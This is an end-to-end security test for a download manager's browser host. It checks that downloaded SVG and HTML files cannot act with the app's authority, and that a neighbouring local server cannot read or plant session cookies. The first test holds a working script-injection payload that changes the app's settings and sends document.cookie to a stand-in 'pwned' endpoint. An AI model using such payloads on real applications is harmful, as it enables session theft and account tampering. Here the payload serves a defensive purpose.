import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mediaPath, mediaUrlExpiry } from '../../src-shared/media-signature.js';
import { signMediaRef } from '../../src-main/host/browser-host.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { startApp, type App } from './harness.js';

/**
 * The browser host against the attackers of docs/security.md, in Debian's Chromium: a hostile download
 * server whose files try to run script as the app (issue 8, point 1), and another server on another
 * port of 127.0.0.1 that reads and plants cookies (point 2).
 */
describe('the browser host under attack, end to end', () => {
  let app: App;
  let files: TestServer;
  /** "Another local port": records what the browser sends it, and plants a cookie named like the old session. */
  let neighbour: http.Server;
  const neighbourSaw: Array<{ url: string; cookie?: string; referer?: string }> = [];
  let neighbourUrl: string;

  beforeAll(async () => {
    files = await startServer();
    neighbour = http.createServer((req, res) => {
      neighbourSaw.push({ url: req.url ?? '', cookie: req.headers.cookie, referer: req.headers.referer });
      res.writeHead(200, {
        'content-type': 'text/html',
        'set-cookie': ['vela_session=planted; Path=/api', 'vela_session=planted-root; Path=/'],
      });
      res.end('<!doctype html><title>neighbour</title><p>another local server</p>');
    });
    await new Promise<void>((resolve) => neighbour.listen(0, '127.0.0.1', resolve));
    neighbourUrl = `http://127.0.0.1:${(neighbour.address() as AddressInfo).port}`;
    app = await startApp();
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await files?.close();
    await new Promise((resolve) => neighbour?.close(resolve));
  });

  const origin = () => new URL(app.url).origin;
  const secret = () => new URL(app.url).hash.replace('#secret=', '');

  async function download(url: string): Promise<void> {
    await app.page.goto(`${origin()}/#/downloads`);
    await app.page.fill('[data-testid="download-url"]', url);
    await app.page.press('[data-testid="download-url"]', 'Enter');
    const row = app.page.locator('[data-testid="task-row"]', { has: app.page.locator(`text=${new URL(url).pathname.slice(1)}`) }).first();
    await row.locator('[data-testid="task-state"][data-state="completed"]').waitFor({ timeout: 20_000 });
  }

  async function settingsNow(): Promise<unknown> {
    const res = await fetch(`${origin()}/api/settings.get`, { method: 'POST', headers: { authorization: `Bearer ${secret()}` }, body: '{}' });
    return ((await res.json()) as { value: unknown }).value;
  }

  it('a downloaded SVG or HTML opened in a tab runs nothing with the app\'s authority', async () => {
    // What the report did: the script calls the API with the user's session and changes settings.
    const payload = `document.title = 'PWNED';
      fetch('/api/settings.set', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ proxy: 'http://127.0.0.1:9/' }) });
      new Image().src = '${neighbourUrl}/pwned?' + encodeURIComponent(document.cookie + ' ' + sessionStorage.length);`;
    files.setFile('/x.js', { body: Buffer.from(payload), contentType: 'text/javascript' });
    files.setFile('/x.svg', {
      body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="teal"/><script href="/media/cache/x.js"/><script>${payload}</script></svg>`),
      contentType: 'image/svg+xml',
    });
    files.setFile('/x.html', { body: Buffer.from(`<!doctype html><script src="/media/cache/x.js"></script><script>${payload}</script>`), contentType: 'text/html' });
    for (const name of ['x.js', 'x.svg', 'x.html']) await download(files.urlFor(`/${name}`));
    const before = await settingsNow();

    // The SVG previews as an image in the Media view, through the page's own signed URL.
    await app.page.goto(`${origin()}/#/media`);
    const svgCard = app.page.locator('[data-testid="media-item"]', { has: app.page.locator('text=x.svg') });
    const img = svgCard.locator('[data-testid="media-image"]');
    await img.waitFor();
    await expect.poll(() => img.evaluate((el) => (el as HTMLImageElement).naturalWidth)).toBe(40);
    const svgUrl = `${origin()}${await img.getAttribute('src')}`;
    await app.shot('security-svg-preview');

    // The user opens the preview in a tab, and the HTML file too.
    const expires = mediaUrlExpiry(Date.now());
    const htmlRef = { partition: 'cache' as const, name: 'x.html' };
    const htmlUrl = `${origin()}${mediaPath(htmlRef)}?expires=${expires}&sig=${signMediaRef(htmlRef, expires, secret())}`;
    for (const target of [svgUrl, htmlUrl]) {
      const tab = await app.context.newPage();
      // An attachment is saved, not shown: Chromium aborts the navigation (playwright reports a download).
      const shown = await tab.goto(target).then(() => true, () => false);
      await tab.waitForTimeout(500);
      if (shown) expect(await tab.title(), target).not.toBe('PWNED');
      await tab.close();
    }
    expect(neighbourSaw.filter((r) => r.url.startsWith('/pwned'))).toEqual([]);
    expect(await settingsNow()).toEqual(before);
  });

  it('no cookie carries the session: another local port learns nothing and cannot lock the app out', async () => {
    const appRequests: Array<{ url: string; cookie?: string; authorization?: string }> = [];
    app.page.on('request', (request) => {
      if (request.url().startsWith(origin())) {
        void request.allHeaders().then((headers) => appRequests.push({ url: request.url(), cookie: headers.cookie, authorization: headers.authorization }));
      }
    });
    await app.page.goto(app.url);
    await app.page.waitForSelector('[data-testid="downloads-view"]');
    // The secret left the address bar at once, and no URL the browser requested ever held it.
    expect(app.page.url()).not.toContain(secret());

    // The user visits another local server in the same browser: it receives no secret, and plants cookies.
    const tab = await app.context.newPage();
    await tab.goto(neighbourUrl);
    await tab.close();
    expect(neighbourSaw.length).toBeGreaterThan(0);
    for (const seen of neighbourSaw) {
      expect(seen.cookie ?? '').not.toContain(secret());
      expect(seen.referer ?? '').not.toContain(secret());
    }

    // The planted cookies change nothing: a reload keeps working, calls carry the Bearer secret.
    await app.page.reload();
    await app.page.waitForSelector('[data-testid="downloads-view"]');
    files.setFile('/after-planting.bin', { body: Buffer.alloc(1024, 1) });
    await download(files.urlFor('/after-planting.bin'));
    await expect.poll(() => appRequests.some((r) => r.url.includes('/api/'))).toBe(true);
    for (const request of appRequests) {
      expect(request.url, 'a URL the browser sent').not.toContain(secret());
      expect(request.cookie ?? '', request.url).not.toContain(secret());
      if (request.url.includes('/api/')) expect(request.authorization, request.url).toBe(`Bearer ${secret()}`);
    }

    // A second tab opened from the printed URL works on its own; one opened without it explains what to do.
    const second = await app.context.newPage();
    await second.goto(app.url);
    await second.waitForSelector('[data-testid="downloads-view"]');
    await second.close();
    const bare = await app.context.newPage();
    await bare.goto(`${origin()}/`);
    await bare.getByRole('alert').waitFor();
    expect(await bare.getByRole('alert').innerText()).toContain('vela-companion serve');
    await bare.screenshot({ path: `${process.cwd()}/test/e2e/screenshots/security-no-session.png` });
    await bare.close();
  });
});
